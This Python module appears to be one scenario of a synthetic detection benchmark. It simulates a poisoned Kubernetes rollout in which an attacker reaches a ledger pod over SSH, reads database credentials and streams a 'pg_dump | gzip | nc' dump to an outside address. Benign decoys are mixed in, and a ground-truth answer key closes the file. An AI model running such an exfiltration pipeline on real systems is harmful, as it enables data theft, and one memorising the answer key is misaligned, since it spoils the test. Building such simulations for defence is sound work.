"""A poisoned rollout: a new version of the payments ledger, built on a compromised base image,
starts an SSH daemon beside the service in every pod (its entrypoint script) and the chart
exposes it.  Minutes after the rollout the attacker logs in over SSH from outside, reads the
database credentials and streams a ``pg_dump`` of the ledger's database through ``nc`` to an
address outside the cluster.

Look-alikes: the same hour a new version of the cart adds a telemetry agent to its entrypoint
that connects outside the cluster, and an SRE ``kubectl exec``s into a ledger pod to read its
config and check its version."""

from __future__ import annotations

from pathlib import Path

from .. import falco as fc
from ..topology import Workload
from . import Scenario
from .kit import (
    MAY_READ,
    MS,
    NS,
    add_pod,
    command,
    connect_out,
    connect_pod,
    every,
    exec_into,
    file_hook,
    finish,
    pod_ref,
    run,
    start_pod,
    world,
    world_in,
)
from .truth import Endpoint, Truth

NAME = "rollout-nc"
DESCRIPTION = ("A poisoned rollout of the payments ledger starts sshd in every pod; the attacker "
               "logs in over SSH from outside, reads the DB credentials and streams pg_dump "
               "through nc out of the cluster.")
EXFIL = ("198.51.100.33", 9001)
OTEL = ("35.190.60.11", "api.honeycomb.io")
DB_ENV = "/etc/ledger/db.env"


def build(out_dir: Path, seed: int) -> Truth:
    """Write the capture; see the module docstring."""
    w = world(seed, minutes=25)
    rng = w.rng
    sim = w.sim
    c = sim.cluster
    dbw = Workload("payments", "ledger-db", "StatefulSet", {"app": "ledger-db"},
                   "docker.io/library/postgres:16.3", "/usr/lib/postgresql/16/bin/postgres",
                   "-c config_file=/etc/postgresql/postgresql.conf", "postgres",
                   cwd="/var/lib/postgresql", uid=999, port=5432, serviceaccount="ledger-db")
    db = add_pod(w, dbw, w.node(1), name="ledger-db-0")
    c.services["ledger-db.payments.svc.cluster.local"] = f"10.96.{rng.randint(1, 254)}.{rng.randint(1, 254)}"
    old = Workload("payments", "ledger", "Deployment", {"app": "ledger"},
                   "ghcr.io/acme-pay/ledger:4.1.3", "/usr/local/bin/ledger", "--listen :8443",
                   "ledger", cwd="/srv", uid=0, port=8443, serviceaccount="ledger")
    new = Workload("payments", "ledger", "Deployment", {"app": "ledger"},
                   "ghcr.io/acme-pay/ledger:4.2.0", "/bin/sh", "/docker-entrypoint.sh",
                   "ledger", cwd="/srv", uid=0, port=8443, serviceaccount="ledger")
    nodes = [w.node(1), w.node(2), w.node(2)]
    olds = [add_pod(w, old, n) for n in nodes]

    def ledger_traffic(pod, start: int, end: int) -> None:
        main = sim.anchors.get(f"app:{pod.name}") or sim.pod_proc(pod)
        for t in every(w, 25, start, end):
            connect_pod(w, main, t, db, 5432, dur_ms=rng.randint(10, 300))

    # the rollout at minute 5: one pod after the other
    t = w.at(5 + rng.random())
    news = []
    for i, o in enumerate(olds):
        ledger_traffic(o, w.start, t)
        sim.exit_(sim.pod_proc(o), t + 2 * NS, signal="SIGTERM")
        p = add_pod(w, new, nodes[i], started_ns=t - 20 * NS)
        entry = start_pod(w, p)
        sshd = run(w, entry, p.container_start_ns + 30 * MS, "/usr/sbin/sshd",
                   "-D -p 2222 -o PermitRootLogin=prohibit-password", exit_=False)
        app = run(w, entry, p.container_start_ns + 35 * MS, "/usr/local/bin/ledger",
                  "--listen :8443", exit_=False)
        sim.anchors[f"app:{p.name}"] = app
        ledger_traffic(p, p.container_start_ns + 2 * NS, w.end)
        news.append((p, sshd, app))
        t += rng.randint(25, 40) * NS

    # the cart's new version adds a telemetry agent that reports outside the cluster
    cart = c.pods_of("cart")[0]
    cw = cart.workload
    cnew = Workload(cw.namespace, cw.name, cw.kind, cw.labels, "ghcr.io/acme-shop/cart:1.10.0",
                    "/bin/sh", "/entrypoint.sh", cw.container, cwd=cw.cwd, uid=cw.uid,
                    port=cw.port, service=cw.service, serviceaccount=cw.serviceaccount,
                    template_hash="5c8d7f9b6c")
    cp = add_pod(w, cnew, cart.node, started_ns=w.at(7))
    cent = start_pod(w, cp)
    otel = run(w, cent, cp.container_start_ns + 20 * MS, "/usr/local/bin/otelcol-contrib",
               "--config /etc/otel/config.yaml", exit_=False)
    run(w, cent, cp.container_start_ns + 25 * MS, cw.binary, cw.arguments, exit_=False)
    for tt in every(w, 60, cp.container_start_ns + NS, w.end):
        connect_out(w, otel, tt, OTEL[0], 443, OTEL[1], dur_ms=rng.randint(100, 400))

    # an SRE checks a ledger pod after the rollout
    p0 = news[0][0]
    ts = w.at(8 + rng.random())
    sh = exec_into(w, p0, ts)
    fc.emit_alert(sim.sink, sh, ts + 28 * MS, "Terminal shell in container", tty=34816)
    run(w, sh, ts + 4 * NS, "/usr/local/bin/ledger", "--version", 5)
    cat = run(w, sh, ts + 11 * NS, "/bin/cat", "/etc/ledger/config.yaml", 2)
    file_hook(w, cat, ts + 11 * NS + MS, "/etc/ledger/config.yaml", MAY_READ)
    run(w, sh, ts + 19 * NS, "/bin/ps", "aux", 6)
    sim.exit_(sh, ts + 40 * NS)

    # the attacker logs in over SSH
    victim, sshd, _ = news[1]
    attacker = "198.51.100.140"
    t0 = w.at(13 + rng.random())
    world_in(w, victim, t0, attacker, 2222, critical=True)
    priv = run(w, sshd, t0 + 5 * MS, "/usr/sbin/sshd", "-D -p 2222 -o "
               "PermitRootLogin=prohibit-password -R", exit_=False, critical=True)
    bash = run(w, priv, t0 + 900 * MS, "/bin/bash", "", exit_=False, critical=True)
    fc.emit_alert(sim.sink, bash, t0 + 901 * MS, "Terminal shell in container", tty=34817,
                  critical=True)
    ids = [priv.exec_id, bash.exec_id]
    tc = t0 + 6 * NS
    for binary, args in (("/usr/bin/id", ""), ("/bin/ls", "-la /etc/ledger"),
                         ("/bin/cat", DB_ENV)):
        p = run(w, bash, tc, binary, args, 3, critical=True)
        if binary == "/bin/cat":
            file_hook(w, p, tc + MS, DB_ENV, MAY_READ, critical=True)
        ids.append(p.exec_id)
        tc += rng.randint(5, 15) * NS
    # PGPASSWORD=… pg_dump -h ledger-db … | gzip | nc 198.51.100.33 9001
    dump = run(w, bash, tc, "/usr/bin/pg_dump", "-h ledger-db.payments.svc.cluster.local -U "
               "ledger ledger", exit_=False, critical=True)
    gz = run(w, bash, tc + MS, "/bin/gzip", "-c", exit_=False, critical=True)
    nc = run(w, bash, tc + 2 * MS, "/usr/bin/nc", f"{EXFIL[0]} {EXFIL[1]}", exit_=False,
             critical=True)
    dend = connect_pod(w, dump, tc + 3 * MS, db, 5432, "ledger-db.payments.svc.cluster.local",
                       dur_ms=14_000, critical=True)
    nend = connect_out(w, nc, tc + 4 * MS, EXFIL[0], EXFIL[1], dur_ms=15_000, critical=True)
    for p, e in ((dump, dend), (gz, dend + 5 * MS), (nc, nend)):
        sim.exit_(p, e + MS, critical=True)
    ids += [dump.exec_id, gz.exec_id, nc.exec_id]
    sim.exit_(bash, nend + 20 * NS, critical=True)
    sim.exit_(priv, nend + 20 * NS + 5 * MS, critical=True)

    return finish(w, out_dir, Truth(
        scenario=NAME, kind="attack", description=DESCRIPTION, seed=seed,
        entry=pod_ref(victim), key_command=command(nc), reached=[pod_ref(db)],
        endpoints=[Endpoint(EXFIL[0], EXFIL[1], "exfil")],
        techniques=["T1195.002", "T1133", "T1021.004", "T1552.001", "T1048"],
        expected_incidents=1, attacker_exec_ids=ids,
        decoys=["the cart's new version starts a telemetry agent that connects outside",
                "an SRE's kubectl exec into a ledger pod reads its config",
                "every new ledger pod runs sshd (the poisoned image): no single odd pod"]))


SCENARIO = Scenario(NAME, "attack", DESCRIPTION, build, seed=15)
